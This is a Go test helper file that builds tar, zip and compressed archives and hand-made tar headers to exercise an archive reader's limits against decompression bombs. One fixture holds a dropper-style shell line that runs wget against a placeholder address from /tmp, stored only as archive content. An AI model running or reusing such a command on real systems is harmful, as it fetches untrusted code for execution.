package downloads

import (
	"archive/tar"
	"archive/zip"
	"bytes"
	"compress/bzip2"
	"context"
	"encoding/binary"
	"errors"
	"fmt"
	"hash/crc32"
	"io"
	"io/fs"
	"math/rand/v2"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	"github.com/klauspost/compress/gzip"
	"github.com/klauspost/compress/zstd"
)

// tightLimits bite early, so that a bomb is told within a test.
var tightLimits = limits{members: 1000, bytes: 16 << 20, ratio: 200, free: 2 << 20}

// got is a member as it was handed over.
type got struct {
	Name    string
	Mode    fs.FileMode
	Link    bool
	Size    int64
	ModTime time.Time
	Content string
	Err     string // of reading
}

var testTime = time.Unix(1_700_000_000, 0)

// tree is what the archives of these tests hold: contents that compress, that
// do not, that are empty, and that are longer than any buffer.
func tree() []got {
	random := make([]byte, 16_000)
	rand.NewChaCha8([32]byte{1}).Read(random)
	list := []got{{Name: "downloads/", Mode: fs.ModeDir}}
	for i, content := range []string{
		"#!/bin/sh\ncd /tmp; wget http://192.0.2.1/x\n",
		"",
		string(random),
		strings.Repeat("root:root\n", 7000),
		string(random[:1000]),
		strings.Repeat("\x00", 3000),
		string(random[5000:5512]),
	} {
		list = append(list, got{Name: fmt.Sprintf("downloads/%064x", i), Content: content})
	}
	for i := range list {
		list[i].Size, list[i].ModTime = int64(len(list[i].Content)), testTime
	}
	return list
}

func makeTar(t testing.TB, list []got, format tar.Format) []byte {
	t.Helper()
	var b bytes.Buffer
	w := tar.NewWriter(&b)
	for _, m := range list {
		h := &tar.Header{Name: m.Name, Typeflag: tar.TypeReg, Size: int64(len(m.Content)), Mode: 0o600, ModTime: m.ModTime, Format: format}
		if m.Mode.IsDir() {
			h.Typeflag = tar.TypeDir
		}
		must(t, w.WriteHeader(h))
		_, err := io.WriteString(w, m.Content)
		must(t, err)
	}
	must(t, w.Close())
	return b.Bytes()
}

func makeZip(t testing.TB, list []got, method uint16) []byte {
	t.Helper()
	var b bytes.Buffer
	w := zip.NewWriter(&b)
	w.RegisterCompressor(zstd.ZipMethodWinZip, zstd.ZipCompressor())
	for _, m := range list {
		h := &zip.FileHeader{Name: m.Name, Method: method, Modified: m.ModTime}
		h.SetMode(m.Mode | 0o600)
		f, err := w.CreateHeader(h)
		must(t, err)
		_, err = io.WriteString(f, m.Content)
		must(t, err)
	}
	must(t, w.Close())
	return b.Bytes()
}

func gz(data ...[]byte) []byte {
	var b bytes.Buffer
	for _, d := range data {
		w := gzip.NewWriter(&b)
		w.Write(d)
		w.Close()
	}
	return b.Bytes()
}

func zst(data ...[]byte) []byte {
	w, err := zstd.NewWriter(nil, zstd.WithEncoderConcurrency(1), zstd.WithWindowSize(4<<10))
	if err != nil {
		panic(err)
	}
	var b []byte
	for _, d := range data {
		b = w.EncodeAll(d, b)
	}
	return b
}

// bz returns the tree as it was packed by bzip2, which Go only reads:
// makeTar(tree()), every 8,000 bytes with "bzip2 -1", one behind the other.
func bz(t testing.TB) []byte {
	t.Helper()
	data, err := os.ReadFile("testdata/archive/tree.tar.bz2")
	must(t, err)
	content, err := io.ReadAll(bzip2.NewReader(bytes.NewReader(data)))
	must(t, err)
	if !bytes.Equal(content, makeTar(t, tree(), tar.FormatGNU)) {
		t.Fatal("testdata/archive/tree.tar.bz2 is not the tree of these tests")
	}
	return data
}

// header is a tar header by hand, for what package tar does not write.
func header(name string, typeflag byte, size int64, change func([]byte)) []byte {
	b := make([]byte, 512)
	copy(b, name)
	copy(b[100:], "0000600\x000000000\x000000000\x00")
	octal(b[124:136], size)
	octal(b[136:148], testTime.Unix())
	b[156] = typeflag
	copy(b[257:], "ustar  \x00")
	if change != nil {
		change(b)
	}
	copy(b[148:], "        ")
	sum := 0
	for _, c := range b {
		sum += int(c)
	}
	copy(b[148:], fmt.Sprintf("%06o\x00 ", sum))
	return b
}

// octal writes a number, or its bytes if it has too many digits.
func octal(field []byte, n int64) {
	if s := fmt.Sprintf("%0*o", len(field)-1, n); len(s) < len(field) {
		copy(field, s)
		return
	}
	clear(field)
	binary.BigEndian.PutUint64(field[len(field)-8:], uint64(n))
	field[0] |= 0x80
}

func pad(b []byte) []byte { return append(b, make([]byte, -len(b)&511)...) }

// pax is an extended header with records.
func pax(records ...string) []byte {
	var b []byte
	for i := 0; i < len(records); i += 2 {
		rest := " " + records[i] + "=" + records[i+1] + "\n"
		n := len(rest)
		for len(fmt.Sprint(n))+len(rest) != n {
			n = len(fmt.Sprint(n)) + len(rest)
		}
		b = append(b, fmt.Sprint(n)+rest...)
	}
	return append(header("pax", 'x', int64(len(b)), func(h []byte) { copy(h[257:], "ustar\x0000") }), pad(b)...)
}

var endMark = make([]byte, 1024)

func join(parts ...[]byte) []byte { return bytes.Join(parts, nil) }

func must(t testing.TB, err error) {
	t.Helper()
	if err != nil {
		t.Fatal(err)
	}
}

func openData(t testing.TB, data []byte) *os.File {
	t.Helper()
	path := filepath.Join(t.TempDir(), "archive")
	must(t, os.WriteFile(path, data, 0o600))
	f, err := os.Open(path)
	must(t, err)
	t.Cleanup(func() { f.Close() })
	return f
}

// members reads an archive, with every member's content.
func members(t testing.TB, data []byte, lim limits) ([]got, error) {
	t.Helper()
	var list []got
	err := readArchive(context.Background(), openData(t, data), lim, func(m *member) error {
		content, err := io.ReadAll(m.r)
		g := got{m.name, m.mode, m.link, m.size, m.modTime, string(content), ""}
		if err != nil {
			g.Err = err.Error()
		}
		list = append(list, g)
		return nil
	})
	return list, err
}

func wantMembers(t testing.TB, got, want []got) {
	t.Helper()
	if d := cmp.Diff(short(want), short(got)); d != "" {
		t.Errorf("members, -want +got:\n%s", d)
	}
}

// short makes what is compared fit to be shown.
func short(list []got) []got {
	list = append([]got(nil), list...)
	for i := range list {
		if c := list[i].Content; len(c) > 100 {
			list[i].Content = fmt.Sprintf("%d bytes, %08x", len(c), crc32.ChecksumIEEE([]byte(c)))
		}
		if !list[i].ModTime.IsZero() {
			list[i].ModTime = list[i].ModTime.UTC()
		}
	}
	return list
}

func wantError(t testing.TB, err, want error, words ...string) {
	t.Helper()
	if !errors.Is(err, want) {
		t.Fatalf("error %v, want one that is %q", err, want)
	}
	for _, w := range words {
		if !strings.Contains(err.Error(), w) {
			t.Errorf("error %q does not say %q", err, w)
		}
	}
}

func wantArchive(t testing.TB, data []byte, want bool) {
	t.Helper()
	f := openData(t, data)
	_, err := f.Seek(7, io.SeekStart)
	must(t, err)
	is, err := isArchive(f)
	if is != want || err != nil {
		t.Errorf("isArchive: %v, %v, want %v", is, err, want)
	}
	if at, _ := f.Seek(0, io.SeekCurrent); at != 7 {
		t.Errorf("isArchive moved the file's position to %d", at)
	}
}
